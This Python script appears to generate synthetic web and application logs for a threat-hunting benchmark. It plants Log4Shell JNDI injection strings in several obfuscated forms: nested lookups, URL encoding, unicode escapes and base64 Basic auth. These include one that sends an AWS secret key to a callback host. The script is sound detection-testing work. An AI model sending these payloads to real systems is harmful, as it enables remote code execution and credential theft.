#!/usr/bin/env python3
"""Writes a synthetic web/application log for the hunt benchmark.

    gen_hunt_logs.py OUT SIZE_MB SEED [--attacks N] [--benign-triggers PCT] [--access-only]

Apache combined access lines mixed with log4j-layout application lines and
JSON lines, with a few benign ${...} placeholders (Jenkins/Maven/shell
style). With --attacks N, about one line in N carries a Log4Shell payload in
one of the forms seen in the wild (plain, nested lookups, :- defaults,
URL-encoded, base64 Basic auth, \\u escapes); --attacks 1 makes every line
an attempt. With --benign-triggers PCT, PCT percent of the lines carry a
harmless '$' or '%24' (OData $filter/%24top, prices %2450, $HOME) that no
lookup can start from. --access-only writes access log lines only. Prints
the number of lines carrying a payload.
"""
import argparse
import base64
import random
import sys
import urllib.parse

PATHS = ["/", "/index.html", "/api/v1/users", "/api/v1/orders?id=", "/static/app.js", "/login", "/search?q=",
         "/images/logo.png", "/cart/checkout", "/health", "/wp-login.php", "/graphql"]
AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.93 Safari/537.36",
          "Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0",
          "curl/7.68.0", "python-requests/2.26.0", "Go-http-client/1.1",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"]
LOGGERS = ["com.example.web.OrderController", "org.apache.catalina.core.StandardWrapperValve",
           "com.example.auth.LoginService", "org.hibernate.SQL", "com.zaxxer.hikari.pool.HikariPool"]
MESSAGES = ["Processing order {} for customer {}", "User {} logged in from {}", "Cache miss for key {}",
            "select o.id, o.total from orders o where o.customer_id={}", "Connection {} returned to pool",
            "Request completed in {} ms", "Scheduled job {} finished with status {}"]
BENIGN = ["build ${BUILD_NUMBER} of ${JOB_NAME}", "version ${project.version}", "PATH=${JAVA_HOME}/bin",
          "gdpr=${GDPR}", "user ${solution-user.name}", "jndi lookup of java:comp/env/jdbc/main failed"]
MONTHS = ["Dec"]


def payloads(rng):
    host = rng.choice(["45.83.193.150:1389", "cb{}.oast.example".format(rng.randrange(1000)),
                       "198.51.100.{}:1389".format(rng.randrange(1, 255)), "x.dnslog.example"])
    forms = [
        "${jndi:ldap://%s/a}" % host,
        "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://%s/Basic/Command/Base64/aWQ=}" % host,
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/x}" % host,
        "${jndi:dns://%s/${env:AWS_SECRET_ACCESS_KEY}}" % host,
        urllib.parse.quote("${jndi:ldap://%s/u}" % host, safe=""),
        "\\u0024{jndi:ldap://%s/j}" % host,
    ]
    return forms


BENIGN_TRIGGERS = ["?$filter=Name%20eq%20%27x%27&$top=10", "?%24top=5&%24skip=20&%24orderby=id",
                   "?price=%2450.00&currency=USD", "?path=$HOME/.cache&shell=$SHELL", "?q=%24%20off"]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("out")
    parser.add_argument("size_mb", type=int)
    parser.add_argument("seed", type=int)
    parser.add_argument("--attacks", type=int, default=0)
    parser.add_argument("--benign-triggers", type=float, default=0.0)
    parser.add_argument("--access-only", action="store_true")
    args = parser.parse_args()
    out, size_mb, seed, attacks = args.out, args.size_mb, args.seed, args.attacks
    benign_per_10000 = int(args.benign_triggers * 100)
    rng = random.Random(seed)
    target = size_mb << 20
    written = 0
    planted = 0
    t = 1639094400 + seed * 3600
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        buf = []
        while written < target:
            t += rng.randrange(3)
            ip = "%d.%d.%d.%d" % (rng.randrange(1, 224), rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
            kind = 0 if args.access_only else rng.randrange(10)
            extra = ""
            if rng.randrange(2000) == 0:
                extra = " " + rng.choice(BENIGN)
            payload = None
            if attacks and rng.randrange(attacks) == 0:
                payload = rng.choice(payloads(rng))
                planted += 1
            hh, mm, ss = (t // 3600) % 24, (t // 60) % 60, t % 60
            day = 10 + (t - 1639094400) // 86400 % 5
            if kind < 6:
                path = rng.choice(PATHS)
                if path.endswith("="):
                    path += str(rng.randrange(100000))
                if benign_per_10000 and rng.randrange(10000) < benign_per_10000:
                    path = path.split("?")[0] + rng.choice(BENIGN_TRIGGERS)
                ua = rng.choice(AGENTS)
                if payload:
                    if payload.startswith("%24"):
                        path = "/search?q=" + payload
                    else:
                        ua = payload
                line = '%s - - [%02d/Dec/2021:%02d:%02d:%02d +0000] "GET %s HTTP/1.1" %d %d "-" "%s"%s\n' % (
                    ip, day, hh, mm, ss, path, rng.choice((200, 200, 200, 304, 404, 500)), rng.randrange(50000), ua, extra)
            elif kind < 9:
                msg = rng.choice(MESSAGES).format(rng.randrange(100000), ip)
                if payload:
                    msg = "Login failed for user " + payload
                line = "2021-12-%02d %02d:%02d:%02d,%03d %-5s [http-nio-8080-exec-%d] %s - %s%s\n" % (
                    day, hh, mm, ss, rng.randrange(1000), rng.choice(("INFO", "INFO", "WARN", "DEBUG")),
                    rng.randrange(1, 200), rng.choice(LOGGERS), msg, extra)
            else:
                auth = ""
                if payload:
                    if not payload.startswith("${"):  # the application decodes base64, not URL/\u escapes
                        payload = "${jndi:ldap://%s/b}" % rng.choice(("45.83.193.150:1389", "b64.oast.example"))
                    auth = ', "authorization": "Basic %s"' % base64.b64encode(
                        ("admin:" + payload).encode()).decode()
                line = ('{"@timestamp":"2021-12-%02dT%02d:%02d:%02d.%03dZ","client_ip":"%s","method":"POST",'
                        '"uri":"/api/v1/events","status":%d,"bytes":%d%s}\n') % (
                    day, hh, mm, ss, rng.randrange(1000), ip, rng.choice((200, 201, 400)), rng.randrange(9000), auth)
            buf.append(line)
            written += len(line)
            if len(buf) >= 4096:
                f.write("".join(buf))
                buf.clear()
        f.write("".join(buf))
    print(planted)  # lines carrying a payload


if __name__ == "__main__":
    main()
